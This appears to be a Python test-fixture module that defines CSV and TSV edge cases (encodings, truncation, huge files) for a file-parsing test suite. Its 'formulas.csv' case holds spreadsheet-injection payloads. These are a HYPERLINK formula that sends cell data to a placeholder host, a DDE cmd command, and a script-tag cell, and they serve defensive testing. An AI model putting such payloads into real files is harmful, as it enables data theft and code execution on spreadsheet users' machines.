"""Comma-separated values."""

from __future__ import annotations

from tests.files.case import ALERT, HOST, Case

FORMULAS = f'name,note\n=HYPERLINK("https://{HOST}/?"&A1),=cmd|\' /C calc\'!A0\n@SUM(1+1),+1+1\n-2+3,"<script>{ALERT}</script>"\n'


def rows(count: int, columns: int = 3) -> bytes:
    header = ",".join(f"column {n}" for n in range(columns))
    return "\n".join([header, *(",".join([f"{row}"] * columns) for row in range(count))]).encode()


CASES = (
    Case(
        "depths.csv",
        "good",
        "commas, and a line end inside quotes",
        lambda: b'at,note\nquay,"six metres,\nmeasured twice"\n',
        "table",
        "",
    ),
    Case(
        "excel.csv",
        "good",
        "semicolons, Windows-1252, CR LF",
        lambda: "Ort;Größe\r\nKöln;6,1\r\nMünchen;7\r\n".encode("cp1252"),
        "table",
        "",
    ),
    Case(
        "depths.tsv", "good", "tabs, UTF-16", lambda: "at\tdepth, m\nquay\t6\n".encode("utf-16"), "table", ""
    ),
    Case("header.csv", "empty", "a header and no row", lambda: b"at,depth\n", "table", ""),
    Case("blank.csv", "empty", "only line ends", lambda: b"\n\n\n", "table", ""),
    Case("long.csv", "huge", "300,000 rows, 6 MB", lambda: rows(300_000), "table", ""),
    Case("wide.csv", "huge", "5,000 columns", lambda: rows(20, 5_000), "table", ""),
    Case("cut.csv", "truncated", "ends inside quotes", lambda: b'at,note\nquay,"six met', "table", ""),
    Case(
        "ragged.csv",
        "truncated",
        "rows of different lengths, NUL bytes",
        lambda: b"a,b,c\n1\n1,2,3,4,5\n\x00,\x00\n",
        "table",
        "",
    ),
    Case(
        "quote.csv",
        "hostile",
        "a quotation mark that swallows 2 MB",
        lambda: b'a,b\n1,"open\n' + b"1,2\n" * 500_000,
        "table",
        "",
    ),
    Case("formulas.csv", "hostile", "cells that a spreadsheet would run", FORMULAS.encode, "table", ""),
)
